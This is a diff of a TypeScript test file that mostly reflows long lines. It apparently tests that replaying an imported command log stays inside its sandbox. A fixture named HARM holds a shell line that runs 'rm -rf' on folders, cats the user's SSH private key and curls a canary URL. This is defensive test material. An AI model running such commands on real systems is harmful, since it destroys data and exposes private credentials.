@@ -52,12 +52,30 @@ const forged = async (arena: Arena, said: readonly Said[], roots: readonly strin
   return file
 }
 
-const within = <A>(arena: Arena, home: string, use: (app: App) => Effect.Effect<A, unknown, Scope.Scope>, flagsLayer: SettingsLayer = {}): Promise<A> =>
-  Effect.runPromise(Effect.scoped(Effect.flatMap(openApp({ environment: { HOME: arena.home, LOOM_HOME: home, PATH: process.env["PATH"] ?? "" }, cwd: arena.root, flagsLayer }), use)))
+const within = <A,>(
+  arena: Arena,
+  home: string,
+  use: (app: App) => Effect.Effect<A, unknown, Scope.Scope>,
+  flagsLayer: SettingsLayer = {}
+): Promise<A> =>
+  Effect.runPromise(
+    Effect.scoped(
+      Effect.flatMap(
+        openApp({ environment: { HOME: arena.home, LOOM_HOME: home, PATH: process.env["PATH"] ?? "" }, cwd: arena.root, flagsLayer }),
+        use
+      )
+    )
+  )
 
 const imported = (arena: Arena, file: string): Promise<unknown> => {
   const output = { out: () => {}, err: () => {}, quiet: true }
-  const invocation = { flags: {}, words: [file], environment: { HOME: arena.home, LOOM_HOME: arena.loom, PATH: process.env["PATH"] ?? "" }, cwd: arena.root, output } as unknown as Invocation
+  const invocation = {
+    flags: {},
+    words: [file],
+    environment: { HOME: arena.home, LOOM_HOME: arena.loom, PATH: process.env["PATH"] ?? "" },
+    cwd: arena.root,
+    output
+  } as unknown as Invocation
   return Effect.runPromise(Effect.scoped(importLog(invocation)))
 }
 
@@ -157,7 +175,8 @@ test("a fork of a log that names more folders works in its own alone", async () 
 })
 
 /** All that a command of the log does in one line, and a file beside it. */
-const HARM = ({ outside, home, canary: { url } }: Arena): string => `rm -rf src; echo x > made; rm -rf '${outside}'; echo x > '${outside}/x'; cat '${home}/.ssh/id_ed25519'; curl -s '${url}/sent'; true`
+const HARM = ({ outside, home, canary: { url } }: Arena): string =>
+  `rm -rf src; echo x > made; rm -rf '${outside}'; echo x > '${outside}/x'; cat '${home}/.ssh/id_ed25519'; curl -s '${url}/sent'; true`
 const harmful = (arena: Arena): readonly Said[] => [
   userSays("look"),
   gathered,
